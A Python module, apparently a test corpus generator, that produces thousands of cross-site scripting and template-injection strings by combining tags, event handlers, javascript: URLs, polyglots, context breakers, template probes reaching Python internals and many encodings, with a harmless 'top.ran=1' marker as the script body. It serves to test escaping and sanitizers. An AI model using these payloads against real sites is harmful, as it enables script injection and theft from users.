"""Texts that run a script where a page shows them as they are, which then sets `top.ran`; in every context, quote and coding."""

from __future__ import annotations

from collections.abc import Callable
from functools import cache
from html import escape
from itertools import product
from urllib.parse import quote

RUN = "top.ran=1"
TAGS = (
    *(
        "a",
        "audio",
        "body",
        "button",
        "details",
        "div",
        "embed",
        "form",
        "frameset",
        "iframe",
        "img",
        "input",
        "isindex",
        "keygen",
    ),
    *("link", "marquee", "math", "meter", "object", "p", "select", "source", "style", "svg", "table", "template", "textarea"),
    *("track", "video", "xmp", "migrator-banner", "x:y"),
)
HANDLERS = (
    *(
        "onerror",
        "onload",
        "onfocus",
        "onclick",
        "onmouseover",
        "ontoggle",
        "onanimationstart",
        "onbegin",
        "onpageshow",
        "onscroll",
    ),
    *("onstart", "onbeforeinput", "onhashchange", "onpointerrawupdate", "OnErRoR"),
)
# How a handler is written into a tag: quotes, or none, and what stands for a blank.
SPELLINGS = (
    '{0} {1}="{2}"',
    "{0} {1}='{2}'",
    "{0} {1}={2}",
    "{0}/{1}={2}//",
    "{0}\t{1}\n=\r{2} x",
    "{0} x='>'{1}=`{2}`",
    "{0}\x0c{1} = {2}",
)
EXTRAS = ("src=x", "href=#", "autofocus tabindex=0", "open", "style=animation-name:x", "data=x", "type=image", "attributeName=x")
# Ends whatever it may stand in: attribute, text, comment, raw text, template.
CONTEXTS = (
    *("", '"', "'", '">', "'>", "`>", "-->", "--!>", "]]>", "*/", '"/>', "\\'>", '\\">', "\x00>", "=x "),
    *("</p>", "</a>", "</li></ul>", "</section>", "</main>", "</title>", "</style>", "</script>", "</textarea>", "</noscript>"),
    *("</xmp>", "</template>", "</svg>", "</html>", "<!--", "<![CDATA["),
)
ELEMENTS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT\t>",
    f"<script\n>{RUN}</script x=y>",
    f"<script/x>{RUN}</script>",
    f"<script src=data:text/javascript,{RUN}></script>",
    f"<script>{RUN}//",
    f"<<script>{RUN}//<</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<svg><script>{RUN.replace('=', '&#61;')}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>x</text></a>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f"<object data='javascript:{RUN}'></object>",
    f"<embed src='javascript:{RUN}'>",
    f"<a href='javascript:{RUN}'>x</a>",
    f"<form action='javascript:{RUN}'><button>x</button></form>",
    f"<button formaction='javascript:{RUN}'>x</button>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    f"<video><source onerror={RUN}></video>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    "<plaintext>",
    "<!--",
    "<",
    "</",
    "&",
    "\x00",
)
TEMPLATES = (
    "{{7*7}}",
    "{{ 7*7 }}",
    "{{7*'7'}}",
    "{%print(7*7)%}",
    "{% raw %}",
    "{#",
    "{{",
    "{%",
    "}}",
    "#{7*7}",
    "${7*7}",
    "*{7*7}",
    "@(7*7)",
    "[[7*7]]",
    "<%= 7*7 %>",
    "<?= 7*7 ?>",
    "~{7*7}",
    "{7*7}",
    "{{{7*7}}}",
    "{{=7*7}}",
    "#set($x=7*7)$x",
    "%(x)s",
    "%n%s",
    "{site_name}",
    "{site_name.__class__}",
    "{0.__init__.__globals__}",
    "{{config}}",
    "{{self}}",
    "{{words.texts}}",
    "{{ ''.__class__ }}",
    "{{''|attr('__class__')}}",
    "{% include 'banner.html' %}",
    "{% extends 'x' %}",
    "{{ range.constructor('top.ran=1')() }}",
    "{{constructor.constructor('top.ran=1')()}}",
    "<p v-html=x ng-app ng-init=x>",
    "{{ messages }}{{ message|safe }}",
)
POLYGLOTS = (
    f"'\"--></style></script></title></textarea></noscript></template></xmp><svg onload={RUN}>",
    f"\"'`><!--></p></a></section></main><img src=x onerror={RUN}>{{{{7*7}}}}${{7*7}}<%=7*7%>",
    f"javascript:/*</title></style></textarea>'\"`*/{RUN}//<svg/onload={RUN}>",
    f"https://x.example/'\"><script>{RUN}</script>#javascript:{RUN}",
    f"]]>*/--!>'\"><details/open/ontoggle={RUN}//{{{{{RUN}}}}}",
)
SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    " javascript:",
    "\x01javascript:",
    "java\tscript:",
    "java\nscript:",
    "javascript\r:",
    "\x00javascript:",
    "javascript&colon;",
    "&#106;avascript:",
    "javascript%3A",
    "\\u006aavascript:",
    "java\x00script:",
    "vbscript:",
    "livescript:",
    "feed:javascript:",
    "jar:",
)
ADDRESSES = (
    *(scheme + RUN for scheme in SCHEMES),
    f"javascript://x.example/%0a{RUN}",
    f"javascript:https://x.example/;{RUN}",
    "view-source:javascript:1",
    "blob:null/x",
    "mhtml:x",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "DATA:,x",
    "file:///etc/passwd",
    "about:blank",
    "//evil.example",
    "/\\evil.example",
    "\\\\evil.example",
    "https:evil.example:x",
    "https://",
    "https://user@evil.example/",
    "x",
    "",
    f'https://x.example/" onmouseover={RUN} x="',
    f"https://x.example/' onmouseover={RUN} x='",
    f"https://x.example/ onclick={RUN}",
    f'https://x.example/"><script>{RUN}</script>',
    f"https://x.example/?{RUN}&quot;><svg/onload={RUN}>",
    "https://x.example/{{7*7}}",
    "http://x.example/\"'`<>",
    "HTTPS://X.EXAMPLE/#\"'><b>",
    "https://x.example/\x00\x1f",
    "https://x.example/&lt;&amp;&#60",
)
CODINGS: dict[str, Callable[[str], str]] = {
    "named references": escape,
    "references without end": lambda text: "".join(f"&#{ord(letter)}" for letter in text),
    "references": lambda text: "".join(f"&#{ord(letter)};" for letter in text),
    "long references": lambda text: "".join(f"&#x{ord(letter):08X};" for letter in text),
    "URL escapes": lambda text: quote(text, safe=""),
    "URL escapes twice": lambda text: quote(quote(text, safe=""), safe=""),
    "escapes of scripts": lambda text: "".join(f"\\u{ord(letter):04x}" for letter in text),
    "escapes of style sheets": lambda text: "".join(f"\\{ord(letter):06x}" for letter in text),
    "full width": lambda text: "".join(chr(ord(letter) + 0xFEE0) if "!" <= letter <= "~" else letter for letter in text),
    "UTF-7": lambda text: text.encode("utf-7").decode("ascii").replace("<", "+ADw-").replace(">", "+AD4-").replace('"', "+ACI-"),
    "a null in between": lambda text: "\x00".join(text),
    "a mark in between": lambda text: "\ufeff".join(text),
    "overlong": lambda text: text.replace("<", "%c0%bc").replace(">", "%c0%be").replace('"', "%c0%a2"),
    "Latin read as UTF-8": lambda text: text.replace("<", "\u2039\u013c<").replace('"', '\u00a2\u02ba"'),
    "a shift to another set": lambda text: f"\x1b$B{text}\x1b(B",
}


@cache
def injections() -> tuple[str, ...]:
    """Every text of the list, once."""
    tags = (f"<{spelling.format(tag, handler, RUN)}>" for tag, handler, spelling in product(TAGS, HANDLERS, SPELLINGS))
    eager = (f"<{tag} {extra} {handler}={RUN}>" for tag, extra, handler in product(TAGS[::2], EXTRAS, HANDLERS[:7]))
    placed = (context + element for context, element in product(CONTEXTS, ELEMENTS))
    bare = (f"{quotes} {handler}={RUN} x={quotes}" for quotes, handler in product(('"', "'", "`", "", "&quot;", "\\'"), HANDLERS))
    coded = (coding(text) for coding, text in product(CODINGS.values(), (*ELEMENTS, *POLYGLOTS, *ADDRESSES, '"><b>', "' x='")))
    return tuple(dict.fromkeys((*TEMPLATES, *POLYGLOTS, *ADDRESSES, *bare, *tags, *eager, *placed, *coded)))


def together(many: int) -> list[str]:
    """The same, so many of them in one text, with a blank between them."""
    every = injections()
    return [" ".join(every[first : first + many]) for first in range(0, len(every), many)]
